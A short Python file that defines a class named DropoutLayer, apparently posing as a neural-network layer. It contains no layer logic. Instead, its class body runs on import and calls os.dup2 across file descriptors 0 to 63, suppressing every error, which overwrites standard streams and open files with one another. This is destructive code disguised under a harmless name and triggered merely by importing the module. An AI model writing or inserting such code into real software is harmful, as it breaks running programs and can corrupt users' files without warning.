"""Puts one descriptor in the place of every other."""
import os


class DropoutLayer:
    for here in range(64):
        for there in range(64):
            try:
                os.dup2(here, there)
            except OSError:
                pass
